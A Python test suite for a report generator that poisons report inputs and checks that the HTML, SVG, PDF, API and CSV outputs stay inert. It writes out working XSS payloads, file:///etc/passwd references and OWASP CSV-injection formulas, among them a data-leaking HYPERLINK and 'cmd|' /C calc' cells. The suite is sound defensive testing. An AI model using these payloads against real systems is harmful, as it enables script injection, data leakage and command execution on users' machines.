"""Nothing a report's inputs hold runs in a reader's browser or reaches the build machine.

A copy of the flagship report is poisoned: office-submitted list items (which are
breakdown values), a metric's label and definition, a breakdown label, the
summary and a prose template carry script, event-handler, iframe, ``javascript:``,
``file://`` and ``http://`` payloads. The poisoned report is built once, and every
output is read back: the HTML pages (parsed), the SVG charts (parsed), the PDF
(attachments and link targets) and the API's JSON. A local HTTP server named by
the payloads must see no request. Other items are spreadsheet formulas: no
published CSV may hold one that a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import urllib.request
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import ClassVar

import openpyxl
import pypdfium2
import pypdfium2.raw as pdfium_c
import pytest
import yaml
from ice_generator.submissions import read_submissions

from tests.conftest import ICE, ICE_PACK_DIR, REPORT_DIR, http_server
from yearbook.api import create_app
from yearbook.build import build
from yearbook.disclosure.readers import pdf_text
from yearbook.disclosure.serving import serve_api
from yearbook.figures import read_figures
from yearbook.narrative.prose import strip_links
from yearbook.narrative.render import markdown_escape
from yearbook.publish import pdf_name
from yearbook.publish.pdf import local_file, site_fetcher, unlinked
from yearbook.publish.site import markdown_to_html
from yearbook.report import load_report
from yearbook.spreadsheet import FORMULA_START
from yearbook.warehouse import Warehouse

LISTED = "opr.program_offices"
"""The submitted list whose items are poisoned; the OPR prose names every item."""
FORMULAS = "hsi.opioid_strategy_goals"
"""The submitted list whose items are spreadsheet formulas."""


def formulas(origin: str) -> list[str]:
    """Cells a spreadsheet would run (OWASP's CSV injection examples)."""
    return [
        f'=HYPERLINK("{origin}/csv?leak="&A1,"Click for details")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
    ]


def payloads(origin: str) -> list[str]:
    """Hostile text; ``origin`` is the local server that must never be asked anything."""
    return [
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        f'<iframe src="{origin}/iframe"></iframe>',
        "[click](javascript:alert(1))",
        '<a href="javascript:alert(1)">click</a>',
        '<a rel="attachment" href="file:///etc/passwd">passwd</a>',
        "[passwd](file:///etc/passwd)",
        f'<img src="{origin}/img.png">',
        f"![chart]({origin}/md.png)",
        f"<{origin}/autolink>",
        f'<link rel="stylesheet" href="{origin}/style.css">',
        '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    ]


@dataclass
class Poisoned:
    out: Path
    requests: list[str]
    markers: list[str]
    """Plain words of the payloads that must appear as text (proof the poison got in)."""


class _Recorder(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server on a port chosen by the OS; yields its origin and its requests."""
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    with http_server(handler) as origin:
        yield origin, seen


def _poison_submissions(folder: Path, bad: list[str], cells: list[str]) -> None:
    path = folder / "submissions.csv"
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    listed = [r for r in rows if r["metric"] == LISTED]
    for n, row in enumerate(listed):
        row["item"] = f"Office {n}{bad[n % len(bad)]}{bad[(n + 6) % len(bad)]}"
    for row, formula in zip([r for r in rows if r["metric"] == FORMULAS], cells, strict=False):
        row["item"] = formula
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _poison_declarations(folder: Path, bad: list[str], cells: list[str]) -> None:
    spec = yaml.safe_load((folder / "report.yaml").read_text(encoding="utf-8"))
    spec["summary"] += " " + bad[0] + bad[3]
    spec["breakdowns"]["item"] = "Item" + bad[1]
    opr = next(s for s in spec["sections"] if s["id"] == "opr")
    opr["charts"] = [f"{LISTED}:item"]  # the poisoned items drawn as a chart (SVG)
    (folder / "report.yaml").write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
    path = folder / "metrics" / "opr.yaml"
    metrics = yaml.safe_load(path.read_text(encoding="utf-8"))
    decl = next(m for m in metrics if m["id"] == LISTED)
    decl["label"] += bad[2]
    decl["definition"] = cells[0] + " " + decl["definition"] + " " + bad[5] + bad[10]
    path.write_text(yaml.safe_dump(metrics, sort_keys=False), encoding="utf-8")


def _poison_template(folder: Path, bad: list[str]) -> None:
    path = folder / "templates" / "opr.md.j2"
    text = path.read_text(encoding="utf-8")
    path.write_text(text + "\n\n" + "\n\n".join(bad) + "\n", encoding="utf-8")


@pytest.fixture(scope="module")
def poisoned(
    tmp_path_factory: pytest.TempPathFactory,
    demo_warehouse: Warehouse,
    listener: tuple[str, list[str]],
) -> Poisoned:
    origin, seen = listener
    bad = payloads(origin)
    root = tmp_path_factory.mktemp("poisoned")
    folder = root / "reports" / REPORT_DIR.name
    shutil.copytree(REPORT_DIR, folder)
    shutil.copytree(ICE_PACK_DIR, root / "packs" / ICE_PACK_DIR.name)
    _poison_submissions(folder, bad, formulas(origin))
    _poison_declarations(folder, bad, formulas(origin))
    _poison_template(folder, bad)
    warehouse = Warehouse(root / "warehouse", ICE.tables)
    shutil.copytree(demo_warehouse.root, warehouse.root, dirs_exist_ok=True)
    warehouse.write_table("submissions", read_submissions(folder / "submissions.csv"))
    report = load_report(folder)
    out = root / "site"
    build(report.for_tables(warehouse.tables()), warehouse, out)
    return Poisoned(out, seen, markers=["alert('xss')", "onerror=alert(1)", "file:///etc/passwd"])


# -- HTML -------------------------------------------------------------------------

OUR_SCRIPTS = {"assets/sort.js", "../assets/sort.js"}
ACTIVE_TAGS = {"iframe", "frame", "object", "embed", "base", "form", "meta", "link"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "poster"}


class _Active(HTMLParser):
    """Collects everything in a page that could run or fetch."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self._in_script = True
            if values.get("src") not in OUR_SCRIPTS:
                self.found.append(f"<script src={values.get('src')!r}>")
        if tag in ACTIVE_TAGS and not _ours(tag, values):
            self.found.append(f"<{tag} {values}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value is not None and not _local(value):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:60]!r}")
        self.text.append(data)


def _ours(tag: str, values: dict[str, str | None]) -> bool:
    """The page's own <meta> and stylesheet <link> (their URLs are checked as any other)."""
    if tag == "meta":
        return "http-equiv" not in values
    return tag == "link" and values.get("rel") == "stylesheet"


def _local(url: str) -> bool:
    """A link to the report's own files: a relative path with no scheme and no host."""
    lowered = "".join(url.split()).lower()
    return ":" not in lowered.split("/")[0] and not lowered.startswith(("//", "\\"))


def _active_in_html(path: Path) -> tuple[list[str], str]:
    parser = _Active()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser.found, " ".join(parser.text)


def test_no_page_runs_or_fetches_anything_but_its_own_files(poisoned: Poisoned) -> None:
    pages = sorted(poisoned.out.rglob("*.html"))
    assert len(pages) > 10
    found = {str(p.relative_to(poisoned.out)): _active_in_html(p)[0] for p in pages}
    assert {page: bad for page, bad in found.items() if bad} == {}


def test_the_payloads_reach_the_page_as_text(poisoned: Poisoned) -> None:
    """The poison got in (so the test above means something) and reads as what it is."""
    _, text = _active_in_html(poisoned.out / "index.html")
    for marker in poisoned.markers:
        assert marker in text
    _, figure = _active_in_html(poisoned.out / "figures" / f"{LISTED}.html")
    assert "<iframe src=" in figure  # the poisoned label, shown as text


# -- SVG --------------------------------------------------------------------------

SVG_ACTIVE = {"script", "foreignObject", "iframe", "use", "image", "a", "animate", "set"}


def _active_in_svg(path: Path) -> list[str]:
    found = []
    for element in ET.parse(path).iter():
        tag = element.tag.rsplit("}", 1)[-1]
        if tag in SVG_ACTIVE:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            local = name.rsplit("}", 1)[-1]
            if local.startswith("on") or (local == "href" and not value.startswith("#")):
                found.append(f"<{tag} {local}={value!r}>")
    return found


def test_charts_carry_the_labels_as_text_only(poisoned: Poisoned) -> None:
    charts = sorted((poisoned.out / "charts").glob("*.svg"))
    assert {p.name: _active_in_svg(p) for p in charts if _active_in_svg(p)} == {}
    drawn = (poisoned.out / "charts" / f"{LISTED}-item.svg").read_text(encoding="utf-8")
    assert "alert(&#39;xss&#39;)" in drawn or "alert('xss')" in drawn


# -- PDF --------------------------------------------------------------------------


def _link_targets(document: pypdfium2.PdfDocument) -> list[str]:
    """The URI of every link annotation, page by page."""
    import ctypes

    targets = []
    for index in range(len(document)):
        page = document[index]
        start = ctypes.c_int(0)
        link = pdfium_c.FPDF_LINK()
        while pdfium_c.FPDFLink_Enumerate(page.raw, ctypes.byref(start), ctypes.byref(link)):
            action = pdfium_c.FPDFLink_GetAction(link)
            if not action:
                continue
            size = pdfium_c.FPDFAction_GetURIPath(document.raw, action, None, 0)
            if size:
                buffer = ctypes.create_string_buffer(size)
                pdfium_c.FPDFAction_GetURIPath(document.raw, action, buffer, size)
                targets.append(buffer.value.decode("utf-8", "replace"))
        page.close()
    return targets


def _attachments(document: pypdfium2.PdfDocument) -> int:
    """Embedded files: the document's own, and file-attachment annotations on its pages
    (what ``<a rel="attachment">`` makes; ``pdfdetach -list`` counts both)."""
    count = int(document.count_attachments())
    for index in range(len(document)):
        page = document[index]
        for n in range(pdfium_c.FPDFPage_GetAnnotCount(page.raw)):
            annot = pdfium_c.FPDFPage_GetAnnot(page.raw, n)
            count += pdfium_c.FPDFAnnot_GetSubtype(annot) == pdfium_c.FPDF_ANNOT_FILEATTACHMENT
            pdfium_c.FPDFPage_CloseAnnot(annot)
        page.close()
    return count


def test_the_pdf_embeds_no_file_and_links_nowhere_else(poisoned: Poisoned) -> None:
    path = poisoned.out / pdf_name(load_report(REPORT_DIR))
    document = pypdfium2.PdfDocument(str(path))
    try:
        assert _attachments(document) == 0
        assert _link_targets(document) == []
    finally:
        document.close()
    text = " ".join(pdf_text(path).split())
    assert "root:" not in text  # no line of /etc/passwd
    assert "alert('xss')" in text  # the payload printed as text


def test_the_build_fetched_nothing(poisoned: Poisoned) -> None:
    assert poisoned.requests == []


# -- API --------------------------------------------------------------------------


def test_the_api_returns_the_values_as_json_data(poisoned: Poisoned) -> None:
    with serve_api(create_app(poisoned.out)) as api:
        url = f"{api.base}/api/figures?metric={LISTED}&breakdown=item"
        with urllib.request.urlopen(url, timeout=30) as response:
            kind = response.headers.get_content_type()
            body = response.read().decode("utf-8")
        rows = api.get_json(f"/api/figures?metric={LISTED}&breakdown=item")
    assert kind == "application/json"
    assert not body.lstrip().startswith("<")
    values = [r["breakdown_value"] for r in _rows(rows)]
    assert any("<script>alert('xss')</script>" in v for v in values), values


def _rows(data: object) -> list[dict[str, str]]:
    if isinstance(data, dict):
        for key in ("figures", "items", "data"):
            if isinstance(data.get(key), list):
                return list(data[key])
    assert isinstance(data, list), data
    return list(data)


# -- the PDF's URL fetcher on its own ---------------------------------------------------


def test_the_pdf_fetcher_serves_only_the_build_folder(
    tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    """Even HTML that asks for them gets no outside file and no network into the PDF."""
    import weasyprint

    origin, seen = listener
    site = tmp_path / "site"
    (site / "charts").mkdir(parents=True)
    (site / "charts" / "ok.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" '
        'height="10"/></svg>',
        encoding="utf-8",
    )
    (site / "charts" / "out.svg").symlink_to("/etc/hostname")
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the PDF", encoding="utf-8")
    html = (
        '<p><a rel="attachment" href="file:///etc/passwd">a</a>'
        f'<a rel="attachment" href="{secret.as_uri()}">b</a>'
        '<a rel="attachment" href="../secret.txt">c</a>'
        f'<img src="{origin}/fetcher.png"><img src="charts/out.svg">'
        '<img src="charts/ok.svg"></p>'
    )
    path = tmp_path / "x.pdf"
    page = weasyprint.HTML(string=html, base_url=str(site), url_fetcher=site_fetcher(site))
    page.write_pdf(str(path))
    document = pypdfium2.PdfDocument(str(path))
    try:
        assert _attachments(document) == 0
        images = [o for o in document[0].get_objects() if o.type != pdfium_c.FPDF_PAGEOBJ_TEXT]
        assert images  # the chart inside the folder is drawn
    finally:
        document.close()
    assert not any(p.startswith("/fetcher") for p in seen)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("charts/a.svg", True),
        ("file:///etc/passwd", False),
        ("charts/../../secret.txt", False),
        ("http://127.0.0.1/x.png", False),
        ("https://example.org/x.png", False),
        ("data:image/svg+xml,<svg/>", False),
        ("file://otherhost/charts/a.svg", False),
    ],
)
def test_local_file_allows_only_files_inside_the_folder(
    tmp_path: Path, url: str, allowed: bool
) -> None:
    (tmp_path / "site" / "charts").mkdir(parents=True)
    (tmp_path / "site" / "charts" / "a.svg").write_text("<svg/>", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("x", encoding="utf-8")
    site = tmp_path / "site"
    absolute = url if ":" in url else (site / url).as_uri()
    if allowed:
        assert local_file(absolute, site) == (site / url).resolve()
    else:
        with pytest.raises(ValueError, match="the PDF reads only"):
            local_file(absolute, site)


# -- CSV: no formula for a spreadsheet to run -------------------------------------

NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def _published_csvs(out: Path) -> dict[str, str]:
    """Every published CSV: the build's, the bundle's, and each one inside the zip."""
    found = {"figures.csv": (out / "figures.csv").read_text(encoding="utf-8")}
    for path in sorted((out / "data").glob("*.csv")):
        found[f"data/{path.name}"] = path.read_text(encoding="utf-8")
    for archive in sorted((out / "data").glob("*.zip")):
        with zipfile.ZipFile(archive) as zf:
            for name in zf.namelist():
                if name.endswith(".csv"):
                    found[f"{archive.name}!{name}"] = zf.read(name).decode("utf-8")
    return found


def _formula_cells(text: str) -> tuple[list[str], int, int]:
    """Cells a spreadsheet would run; quoted (neutralised) cells; negative numbers."""
    runs, quoted, negative = [], 0, 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if NUMBER.match(cell):
                negative += cell.startswith("-")
            elif cell and cell[0] in FORMULA_START:
                runs.append(cell[:60])
            quoted += len(cell) > 1 and cell[0] == "'" and cell[1] in FORMULA_START
    return runs, quoted, negative


def test_no_published_csv_holds_a_formula(poisoned: Poisoned) -> None:
    csvs = _published_csvs(poisoned.out)
    assert {"figures.csv", "data/figures.csv", "data/metrics.csv"} <= set(csvs)
    assert any("!" in name for name in csvs)  # the zip's own copies are read too
    found = {name: _formula_cells(text) for name, text in csvs.items()}
    assert {name: runs for name, (runs, _, _) in found.items() if runs} == {}
    for name in ("figures.csv", "data/figures.csv"):
        _, quoted, negative = found[name]
        assert quoted >= len(formulas("")) - 1, name  # the poisoned items, neutralised
        assert negative > 0, name  # decreases are still plain negative numbers


def _as_spreadsheet_opens_it(text: str) -> openpyxl.Workbook:
    """The CSV typed into a workbook cell by cell, as a spreadsheet imports it:
    numeric cells become numbers, any other text is entered as typed (openpyxl,
    like a spreadsheet, takes text beginning with '=' as a formula)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in csv.reader(io.StringIO(text)):
        sheet.append([float(cell) if NUMBER.match(cell) else cell for cell in row])
    return book


def test_a_spreadsheet_finds_no_formula_and_numbers_stay_numbers(poisoned: Poisoned) -> None:
    for name, text in _published_csvs(poisoned.out).items():
        sheet = _as_spreadsheet_opens_it(text).active
        assert sheet is not None
        kinds = [cell.data_type for row in sheet.iter_rows() for cell in row]
        assert "f" not in kinds, name
        if name.endswith("figures.csv"):
            assert "n" in kinds, name  # values are still numbers


def test_figures_csv_reads_back_as_written(poisoned: Poisoned) -> None:
    """yearbook reading its own figures.csv gets the submitted items exactly."""
    from_csv = read_figures(poisoned.out / "figures.csv")
    from_parquet = read_figures(poisoned.out / "figures.parquet")
    items = {f.breakdown_value for f in from_parquet if f.metric == FORMULAS and f.breakdown}
    assert items and items == {
        f.breakdown_value for f in from_csv if f.metric == FORMULAS and f.breakdown
    }
    assert any(item.startswith("=HYPERLINK") for item in items)


# -- the one place Markdown becomes HTML ---------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("[a](figures/x.html#fy2023)", '<p><a href="figures/x.html#fy2023">a</a></p>\n'),
        ("[a](https://www.ice.gov/doc)", '<p><a href="https://www.ice.gov/doc">a</a></p>\n'),
        ("[a](https://evil.example/doc)", "<p>[a](https://evil.example/doc)</p>\n"),
        ("[a](http://www.ice.gov/doc)", "<p>[a](http://www.ice.gov/doc)</p>\n"),
        ("[a](javascript:alert(this))", "<p>[a](javascript:alert(this))</p>\n"),
        ("[a](//evil.example/)", "<p>[a](//evil.example/)</p>\n"),
        ("[a](../../etc/passwd)", "<p>[a](../../etc/passwd)</p>\n"),
        ("<https://evil.example/>", "<p>&lt;https://evil.example/&gt;</p>\n"),
        ("<b onclick=x>b</b>", "<p>&lt;b onclick=x&gt;b&lt;/b&gt;</p>\n"),
    ],
)
def test_markdown_keeps_only_links_to_the_report_and_listed_hosts(markdown: str, html: str) -> None:
    assert markdown_to_html(markdown, ["www.ice.gov"]) == html


def test_on_paper_links_to_pages_become_text() -> None:
    body = markdown_to_html(
        '[a](figures/x.html "t") and [b](https://www.ice.gov/)', ["www.ice.gov"]
    )
    assert unlinked(body) == "<p>a and b</p>\n"


def test_a_value_after_a_bracketed_note_makes_no_link() -> None:
    """A template's "[note]" then a value opening with "(" is text, not a link."""
    written = "[note]" + markdown_escape("(https://www.ice.gov/x)")
    assert "<a" not in markdown_to_html(written, ["www.ice.gov"])
    assert strip_links(written) == "[note](https://www.ice.gov/x)"
